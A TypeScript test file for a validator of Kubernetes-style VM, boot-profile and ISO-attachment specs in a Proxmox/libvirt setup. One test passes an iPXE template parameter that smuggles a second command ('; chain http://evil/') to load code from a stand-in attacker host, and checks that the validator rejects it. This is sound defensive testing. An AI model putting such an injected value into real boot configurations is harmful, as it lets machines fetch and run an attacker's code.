import { describe, expect, it } from 'vitest';
import { validateSpec } from './validate.js';

describe('validateSpec (standalone admission)', () => {
  it('accepts a valid spec', () => {
    expect(validateSpec('VirtualMachine', { hypervisorRef: { name: 'pve' }, proxmox: { node: 'pve1', vmid: 101 } })).toEqual([]);
  });

  it('reports schema problems with the field path', () => {
    expect(validateSpec('NodeBootAssignment', { mac: '52-54-00-12-34-56', profileRef: { name: 'p' } })[0]?.field).toBe('spec.mac');
  });

  it('evaluates the CRD\'s CEL rules, as the API server does', () => {
    expect(validateSpec('VirtualMachine', { hypervisorRef: { name: 'pve' } })).toEqual([
      { field: 'spec', message: 'set exactly one of spec.proxmox (node and vmid) and spec.libvirt (domainName)' },
    ]);
    expect(validateSpec('BootProfile', { type: 'ipxeTemplate', ipxeTemplate: 'echo {{x}}', parameters: { x: 'a; chain http://evil/' } }))
      .toContainEqual({ field: 'spec.parameters', message: expect.stringContaining('must not contain a newline, ";"') });
    expect(validateSpec('IsoAttachment', { vmRef: { name: 'vm' }, source: { volume: 'local:iso/a.iso' }, slot: 'virtio0' }))
      .toContainEqual({ field: 'spec.slot', message: expect.stringContaining('virtio is never a CD-ROM bus') });
  });

  it('applies transition rules against the previous version', () => {
    const before = { hypervisorRef: { name: 'pve' }, proxmox: { node: 'pve1', vmid: 101 } };
    const after = { hypervisorRef: { name: 'pve' }, proxmox: { node: 'pve1', vmid: 102 } };
    expect(validateSpec('VirtualMachine', after)).toEqual([]);
    expect(validateSpec('VirtualMachine', after, before)).toContainEqual({ field: 'spec.proxmox', message: 'spec.proxmox.node and spec.proxmox.vmid are immutable: they identify the VM' });
  });
});
